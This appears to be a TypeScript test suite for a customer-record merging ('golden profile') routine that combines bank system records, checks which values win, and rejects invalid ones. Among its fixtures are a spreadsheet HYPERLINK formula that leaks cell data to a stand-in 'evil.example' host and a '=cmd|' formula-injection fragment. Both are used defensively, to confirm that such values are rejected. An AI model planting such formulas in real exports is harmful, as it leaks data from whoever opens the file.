import type { SourceParty } from '../../../adapters/canonical';
import fc from 'fast-check';
import { computeGoldenProfile, displayName } from './goldenProfile';
import { displayFormOfName } from './nameDisplay';

const party = (over: Partial<SourceParty>): SourceParty => ({
  system: 'CORE_BANKING', localId: '0000000001', givenName: null, familyName: null, rawName: null, birthDate: null,
  nationalId: null, phones: [], emails: [], address: null, changedAt: null, ...over,
});

describe('computeGoldenProfile', () => {
  const core = party({
    givenName: 'WILLIAM', familyName: 'SMITH', birthDate: '1980-05-01', nationalId: 'QQ123456C', phones: ['07700 900123'],
    emails: ['bill@old.example'], changedAt: '2024-01-01T00:00:00.000Z',
    address: { line1: '1 High St', line2: null, city: 'London', postalCode: 'SW1A 1AA', country: 'GB' },
  });
  const cards = party({
    system: 'CARDS', localId: 'CH00000001', rawName: 'SMITH/BILL', emails: ['Bill@New.Example'], phones: ['+44 7700 900124'],
    changedAt: '2026-01-01T00:00:00.000Z', address: { line1: '9 Other Road', line2: 'Flat 2', city: 'Leeds', postalCode: 'LS1 1AA', country: 'GB' },
  });

  it('takes name and birth date from the KYC record and contact data from the most recent', () => {
    const profile = computeGoldenProfile([cards, core]);
    // Served in display form; the candidates keep what each system holds.
    expect(profile.fullName.value).toBe('William Smith');
    expect(profile.fullName.candidates.map((c) => c.value)).toEqual(['WILLIAM SMITH', 'SMITH/BILL']);
    expect(profile.fullName.source).toEqual({ system: 'CORE_BANKING', localId: '0000000001', changedAt: '2024-01-01T00:00:00.000Z' });
    expect(profile.fullName.conflict).toBe(true);
    expect(profile.birthDate).toMatchObject({ value: '1980-05-01', conflict: false, rule: 'UNANIMOUS' });
    expect(profile.email).toMatchObject({ value: 'bill@new.example', rule: 'MOST_RECENT', conflict: true });
    expect(profile.mobilePhone.value).toBe('+447700900124');
    expect(profile.email.candidates).toEqual([
      { system: 'CORE_BANKING', localId: '0000000001', value: 'bill@old.example', normalizedValue: 'bill@old.example', asOf: '2024-01-01T00:00:00.000Z', status: 'VALID', problem: null },
      { system: 'CARDS', localId: 'CH00000001', value: 'Bill@New.Example', normalizedValue: 'bill@new.example', asOf: '2026-01-01T00:00:00.000Z', status: 'VALID', problem: null },
    ]);
  });

  it('keeps the address whole from one record', () => {
    const profile = computeGoldenProfile([core, cards]);
    expect(profile.address.value).toEqual(cards.address);
    expect(profile.address.source?.system).toBe('CARDS');
  });

  it('has empty fields, not errors, when no record holds a value', () => {
    const profile = computeGoldenProfile([]);
    expect(profile.email).toEqual({ value: null, source: null, asOf: null, rule: null, conflict: false, complete: true, unavailableSystems: [], candidates: [] });
  });

  it('reads the track-1 name the right way round', () => {
    expect(displayName(cards)).toBe('BILL SMITH');
  });
});

describe('survivorship never serves an invalid value', () => {
  const at = (system: SourceParty['system'], localId: string, changedAt: string, over: Partial<SourceParty>) => party({ system, localId, changedAt, ...over });
  const OLD = '2020-01-01T00:00:00.000Z';
  const NEW = '2026-06-01T00:00:00.000Z';
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"ann@example.com")';

  // [case, the records, the field, the value served, the problem the bad candidate carries]
  const cases: Array<[string, SourceParty[], 'email' | 'mobilePhone' | 'fullName' | 'birthDate' | 'nationalId', string | null, string]> = [
    [
      'a formula as the most recent email, against three agreeing systems',
      [
        at('CORE_BANKING', '0000000001', OLD, { emails: ['ann@example.com'] }),
        at('CARDS', 'CH00000001', OLD, { emails: ['ANN@example.com'] }),
        at('ERP', '1000000001', OLD, { emails: ['ann@example.com'] }),
        at('CALL_CENTER', 'C000000001', NEW, { emails: [hyperlink] }),
      ],
      'email', 'ann@example.com', 'NOT_AN_EMAIL_ADDRESS',
    ],
    ['an email with no domain, most recent', [at('CORE_BANKING', '0000000001', OLD, { emails: ['ann@example.com'] }), at('CALL_CENTER', 'C000000001', NEW, { emails: ['ann@'] })], 'email', 'ann@example.com', 'NOT_AN_EMAIL_ADDRESS'],
    ['an email with a space, most recent', [at('CORE_BANKING', '0000000001', OLD, { emails: ['ann@example.com'] }), at('CARDS', 'CH00000001', NEW, { emails: ['ann smith@example.com'] })], 'email', 'ann@example.com', 'NOT_AN_EMAIL_ADDRESS'],
    ['a phone that does not parse, most recent', [at('CORE_BANKING', '0000000001', OLD, { phones: ['07700 900123'] }), at('CALL_CENTER', 'C000000001', NEW, { phones: ['call after 6pm'] })], 'mobilePhone', '+447700900123', 'NOT_A_PHONE_NUMBER'],
    ['a phone too short to be one, most recent', [at('CORE_BANKING', '0000000001', OLD, { phones: ['07700 900123'] }), at('ERP', '1000000001', NEW, { phones: ['077'] })], 'mobilePhone', '+447700900123', 'NOT_A_PHONE_NUMBER'],
    ['a name with a code-page ? from the KYC system', [at('CORE_BANKING', '0000000001', OLD, { givenName: 'BART?OMIEJ', familyName: 'NOWAK' }), at('ERP', '1000000001', OLD, { givenName: 'Bartłomiej', familyName: 'Nowak' })], 'fullName', 'Bartłomiej Nowak', 'SUBSTITUTION_CHARACTER'],
    ['a name with U+FFFD from the KYC system', [at('CORE_BANKING', '0000000001', OLD, { givenName: 'Bart\uFFFDomiej', familyName: 'Nowak' }), at('CARDS', 'CH00000001', OLD, { rawName: 'NOWAK/BARTLOMIEJ' })], 'fullName', 'Bartlomiej Nowak', 'SUBSTITUTION_CHARACTER'],
    ['a name with EBCDIC SUB (U+001A) from the KYC system', [at('CORE_BANKING', '0000000001', OLD, { givenName: 'BART\u001AOMIEJ', familyName: 'NOWAK' }), at('ERP', '1000000001', OLD, { givenName: 'Bartłomiej', familyName: 'Nowak' })], 'fullName', 'Bartłomiej Nowak', 'SUBSTITUTION_CHARACTER'],
    ['a name that is a formula', [at('CORE_BANKING', '0000000001', OLD, { givenName: '=cmd|', familyName: 'x' }), at('ERP', '1000000001', OLD, { givenName: 'Ann', familyName: 'Lee' })], 'fullName', 'Ann Lee', 'NOT_A_NAME'],
    ['a birth date that is no date', [at('CORE_BANKING', '0000000001', OLD, { birthDate: '1980-02-30' }), at('CARDS', 'CH00000001', OLD, { birthDate: '1980-02-03' })], 'birthDate', '1980-02-03', 'NOT_A_DATE'],
    ['a national id with a substitution character', [at('CORE_BANKING', '0000000001', OLD, { nationalId: 'QQ12?456C' }), at('ERP', '1000000001', OLD, { nationalId: 'QQ123456C' })], 'nationalId', 'QQ123456C', 'SUBSTITUTION_CHARACTER'],
    ['only invalid values: nothing is served', [at('CORE_BANKING', '0000000001', OLD, { emails: ['not-an-email'] }), at('CARDS', 'CH00000001', NEW, { emails: ['@example.com'] })], 'email', null, 'NOT_AN_EMAIL_ADDRESS'],
  ];

  it.each(cases)('%s', (_case, parties, field, served, problem) => {
    const golden = computeGoldenProfile(parties)[field];
    expect(golden.value).toBe(served);
    const invalid = golden.candidates.filter((c) => c.status === 'INVALID');
    expect(invalid.length).toBeGreaterThan(0);
    for (const candidate of invalid) expect(candidate.problem).toBe(problem);
    // The steward sees every record, invalid ones included.
    expect(golden.candidates).toHaveLength(parties.length);
    if (served === null) expect(golden.rule).toBeNull();
    else expect(golden.source?.localId).not.toBe(invalid[0].localId);
  });

  it('says UNANIMOUS when every valid record agrees beside an invalid one', () => {
    const golden = computeGoldenProfile(cases[0][1]).email;
    expect(golden).toMatchObject({ value: 'ann@example.com', rule: 'UNANIMOUS', conflict: true });
  });

  it('accepts the names, emails and phones real records hold', () => {
    const valid = computeGoldenProfile([
      at('ERP', '1000000001', OLD, { givenName: 'Małgorzata', familyName: 'Núñez-O’Brien', emails: ['MARTIN.SARAH1581835@EXAMPLE.COM'], phones: ['+44-7700-900123'] }),
      at('CARDS', 'CH00000001', OLD, { rawName: "D'ARCY/JEAN-LUC", phones: ['07700-900-123'] }),
    ]);
    for (const field of [valid.fullName, valid.email, valid.mobilePhone]) for (const c of field.candidates) expect([c.value, c.status]).toEqual([c.value, 'VALID']);
  });
});

describe('names as people write them', () => {
  const at = (system: SourceParty['system'], localId: string, over: Partial<SourceParty>) => party({ system, localId, changedAt: '2025-01-01T00:00:00.000Z', ...over });

  it('serves the legal name the systems agree on over a nickname, whatever the source priority', () => {
    const golden = computeGoldenProfile([
      at('CARDS', 'CH00000001', { rawName: 'SHAH/RICK' }),
      at('ERP', '1000000001', { givenName: 'Richard', familyName: 'Shah' }),
      at('CALL_CENTER', 'C000000001', { givenName: 'RICHARD', familyName: 'SHAH' }),
    ]).fullName;
    expect(golden).toMatchObject({ value: 'Richard Shah', rule: 'LEGAL_NAME_OVER_NICKNAME', conflict: true });
    expect(golden.source?.system).toBe('ERP');
  });

  it('serves the legal name when the nickname is the call center\'s, against the KYC order too', () => {
    const golden = computeGoldenProfile([
      at('CORE_BANKING', '0000000001', { givenName: 'RICK', familyName: 'SHAH' }),
      at('CARDS', 'CH00000001', { rawName: 'SHAH/RICHARD' }),
      at('ERP', '1000000001', { givenName: 'Richard', familyName: 'Shah' }),
    ]).fullName;
    expect(golden.value).toBe('Richard Shah');
    expect(golden.rule).toBe('LEGAL_NAME_OVER_NICKNAME');
  });

  it('does not take a different family name for a nickname', () => {
    const golden = computeGoldenProfile([
      at('CORE_BANKING', '0000000001', { givenName: 'RICK', familyName: 'SHAH' }),
      at('ERP', '1000000001', { givenName: 'Richard', familyName: 'Patel' }),
    ]).fullName;
    expect(golden.value).toBe('Rick Shah');
    expect(golden.rule).toBe('SOURCE_PRIORITY');
  });

  it('ranks a mortgage borrower record last for the legal name: every other system wins a disagreement', () => {
    for (const other of [at('CORE_BANKING', '0000000001', { givenName: 'ANN', familyName: 'LEE' }), at('CALL_CENTER', 'C000000001', { givenName: 'Ann', familyName: 'Lee' })]) {
      const golden = computeGoldenProfile([at('MORTGAGES', 'MB00000001', { givenName: 'Ann', familyName: 'Leigh' }), other]).fullName;
      expect({ value: golden.value, rule: golden.rule, source: golden.source?.system, conflict: golden.conflict }).toEqual({ value: 'Ann Lee', rule: 'SOURCE_PRIORITY', source: other.system, conflict: true });
    }
  });

  it('never serves a name with a substitution character, however trusted its system', () => {
    const golden = computeGoldenProfile([
      at('CORE_BANKING', '0000000001', { givenName: 'BART?OMIEJ', familyName: 'SHAW' }),
      at('CARDS', 'CH00000001', { rawName: 'SHAW/BARTŁOMIEJ' }),
    ]).fullName;
    expect(golden.value).toBe('Bartłomiej Shaw');
    expect(golden.candidates.find((c) => c.system === 'CORE_BANKING')).toMatchObject({ value: 'BART?OMIEJ SHAW', status: 'INVALID', problem: 'SUBSTITUTION_CHARACTER' });
  });

  const heldName = fc.oneof(
    fc.record({ givenName: fc.option(fc.string({ minLength: 1, maxLength: 12 }), { nil: null }), familyName: fc.option(fc.string({ minLength: 1, maxLength: 12 }), { nil: null }), rawName: fc.constant(null) }),
    fc.record({ givenName: fc.constant(null), familyName: fc.constant(null), rawName: fc.string({ minLength: 1, maxLength: 26 }) }),
  );
  const record = fc.tuple(fc.constantFrom<SourceParty['system']>('CORE_BANKING', 'CARDS', 'ERP', 'CALL_CENTER'), fc.stringMatching(/^[0-9]{4}$/), heldName).map(([system, localId, name]) => at(system, localId, name));

  it('keeps every system\'s raw name among the candidates, exactly as held', () => {
    fc.assert(
      fc.property(fc.array(record, { minLength: 1, maxLength: 5 }), (records) => {
        const values = computeGoldenProfile(records).fullName.candidates.map((c) => c.value);
        for (const r of records) {
          // What the system holds, in its own shape: split fields joined by a space, or the unsplit text.
          const held = r.rawName ?? [r.givenName, r.familyName].filter(Boolean).join(' ');
          const hasName = r.rawName ? r.rawName.trim() !== '' : held !== '';
          if (hasName) expect(values).toContain(held);
        }
      }),
    );
  });

  it('serves a name that is its own display form', () => {
    fc.assert(
      fc.property(fc.array(record, { minLength: 1, maxLength: 5 }), (records) => {
        const served = computeGoldenProfile(records).fullName.value;
        if (served !== null) expect(displayFormOfName(served)).toBe(served);
      }),
    );
  });
});

describe('golden fields under an outage', () => {
  const core = party({ givenName: 'ANN', familyName: 'LEE', emails: ['ann@example.com'], birthDate: '1980-01-01', changedAt: '2025-01-01T00:00:00.000Z' });
  const cards = party({ system: 'CARDS', localId: 'CH00000001', rawName: 'LEE/ANN', emails: ['ANN@example.com'], changedAt: '2025-01-01T00:00:00.000Z' });

  it('says complete with every system heard, and UNANIMOUS when all agree', () => {
    const golden = computeGoldenProfile([core, cards]).email;
    expect(golden).toMatchObject({ value: 'ann@example.com', rule: 'UNANIMOUS', complete: true, unavailableSystems: [] });
  });

  it('never says UNANIMOUS with a system unheard, and names it on every field', () => {
    const profile = computeGoldenProfile([core, cards], { unavailableSystems: ['CALL_CENTER', 'ERP'] });
    for (const field of [profile.fullName, profile.birthDate, profile.nationalId, profile.email, profile.mobilePhone, profile.address]) {
      expect(field.complete).toBe(false);
      expect(field.unavailableSystems).toEqual(['ERP', 'CALL_CENTER']);
      expect(field.rule).not.toBe('UNANIMOUS');
    }
    expect(profile.email).toMatchObject({ value: 'ann@example.com', rule: 'AGREED_AMONG_AVAILABLE', conflict: false });
    // A rule that did decide stays named.
    expect(profile.fullName.rule).toBe('AGREED_AMONG_AVAILABLE');
    expect(computeGoldenProfile([core, party({ system: 'CARDS', localId: 'CH1', birthDate: '1980-01-02' })], { unavailableSystems: ['ERP'] }).birthDate.rule).toBe('SOURCE_PRIORITY');
  });
});
